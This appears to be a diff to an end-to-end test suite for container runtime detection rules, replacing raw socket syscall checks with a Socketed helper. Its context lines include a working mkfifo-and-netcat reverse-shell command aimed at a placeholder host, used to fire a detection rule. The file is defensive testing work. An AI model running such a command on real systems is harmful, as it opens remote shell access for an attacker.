@@ -28,6 +28,7 @@ from tests.rules_e2e.lab import (
     Opened,
     Ran,
     Scenario,
+    Socketed,
     Witness,
     execd,
     file_op,
@@ -176,7 +177,7 @@ CASES: list[Case] = [
     # network_syscalls.toml
     Case("Packet socket created in container",
          Scenario(("cauditd_attack", "packet")), "proc.cmdline", "cauditd_attack packet",
-         Scenario(("cauditd_attack", "udp")), syscall("socket", domain=2, type=2)),
+         Scenario(("cauditd_attack", "udp")), Socketed(2, 2, ("cauditd_attack", "udp"))),
     Case("Connection to mining pool port",
          Scenario(("cauditd_probe", "connect", NOWHERE, "3333")), "fd.dport", "3333",
          Scenario(("cauditd_probe", "connect", NOWHERE, "8080")),
@@ -193,7 +194,8 @@ CASES: list[Case] = [
     Case("Redirect stdio to network connection",
          Scenario(("cauditd_probe", "dupsock")), "fd.num", "2",
          Scenario(("cauditd_attack", "dupsock-high")),
-         syscall("socket", domain=2, type=1), "socket-on-fd10"),  # dup2 onto fd>2: not emitted
+         Socketed(2, 1, ("cauditd_attack", "dupsock-high")),  # dup2 onto fd>2: not emitted
+         "socket-on-fd10"),
     Case("Reverse shell through pipes",
          sh(f"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | /usr/bin/nc -w 1 {NOWHERE} 4445"
             " > /tmp/f"), "container.image", TEST_IMAGE,
